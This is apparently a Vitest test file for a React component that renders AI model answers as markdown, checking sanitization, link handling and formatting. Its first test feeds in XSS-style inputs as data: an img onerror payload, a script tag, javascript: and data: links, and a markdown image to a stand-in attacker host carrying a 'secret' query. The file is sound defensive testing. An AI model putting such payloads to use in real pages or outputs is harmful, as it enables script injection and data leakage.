import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import RenderedText from "../../../../../web/src/components/model-text/rendered-text.tsx";

const html = (text: string) => renderToStaticMarkup(createElement(RenderedText, { text }));

test("HTML, scripts and pictures of an answer stay text", () => {
  const shown = html(
    "<img src=https://evil.example/x onerror=alert(1)>\n\n<script>alert(1)</script>\n\n![moss](https://evil.example/p.png?q=secret) [x](javascript:alert(1)) [y](data:text/html,x) [z](/settings)",
  );
  expect(shown).not.toMatch(/<(?:img|script|iframe|svg)\b/);
  expect(shown).not.toMatch(/href="(?!https:\/\/)/);
  expect(shown).toContain("Picture: moss");
});

test("a link opens in another tab, and shows its host if its text does not", () => {
  expect(html("[the docs](https://example.org/a)")).toMatch(
    /target="_blank" rel="noopener noreferrer nofollow".*the docs.*\(example\.org\)/,
  );
  expect(html("https://example.org/a")).not.toContain("(example.org)");
});

test("headings, lists, code and tables are shown as such", () => {
  const shown = html("# One\n\n- a\n- b `c`\n\n1. x\n\n```\n<b>\n```\n\n|a|b|\n|-|-|\n|1|2|\n");
  expect(shown).toContain('role="heading" aria-level="2"');
  expect(shown.match(/<li/g)).toHaveLength(3);
  expect(shown).toContain("<code>&lt;b&gt;</code>");
  expect(shown.match(/<td/g)).toHaveLength(2);
});
